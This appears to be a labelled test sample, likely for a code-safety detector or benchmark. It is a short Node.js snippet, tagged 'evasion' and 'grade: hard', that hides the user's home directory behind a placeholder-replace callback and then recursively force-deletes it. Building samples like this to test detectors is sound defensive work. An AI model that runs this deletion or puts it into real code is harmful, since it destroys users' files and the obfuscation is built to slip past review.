// evasion: a placeholder string whose replace callback returns the home directory; the result is deleted
// grade: hard; does: delete
const fs = require("fs");
const os = require("os");
const target = "{root}".replace(/\{root\}/, () => os.homedir());
fs.rmSync(target, { recursive: true, force: true });
